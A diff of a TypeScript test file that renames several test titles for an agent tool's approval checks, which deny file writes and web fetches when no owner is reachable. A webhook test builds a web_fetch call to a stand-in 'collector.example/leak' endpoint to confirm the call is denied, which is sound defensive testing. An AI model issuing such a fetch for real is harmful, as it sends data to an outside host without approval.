@@ -71,7 +71,7 @@ async function logOf(session: string): Promise<string> {
 }
 
 for (const output of ["json", "text", "stream-json"]) {
-  test(`denies a call that needs approval at once when parley run writes ${output}`, async () => {
+  test(`denies a call that needs approval immediately when parley run writes ${output}`, async () => {
     const file = `asked-${output}.txt`;
     const started = performance.now();
     const { code, stdout, stderr } = await completed(["--output", output, `${writing(file)}\nthen\nsay: over`]);
@@ -89,13 +89,13 @@ for (const output of ["json", "text", "stream-json"]) {
   });
 }
 
-test("denies an OpenAI call's write at once when no owner has an address", async () => {
+test("denies an OpenAI call's write immediately when no owner has an address", async () => {
   assert.equal(await client.ask(`${writing("asked-openai.txt")}\nthen\nsay: over`, "openai"), "over");
   assert.equal(written("asked-openai.txt"), false);
   assert.match(await logOf("http:default:openai"), sentence);
 });
 
-test("denies a webhook's request at once when no owner has an address", async () => {
+test("denies a webhook's request immediately when no owner has an address", async () => {
   const body = `\ntool: web_fetch {"url":"https://collector.example/leak"}\nthen\nsay: over`;
   const signature = createHmac("sha256", secret).update(body).digest("hex");
   const headers = {
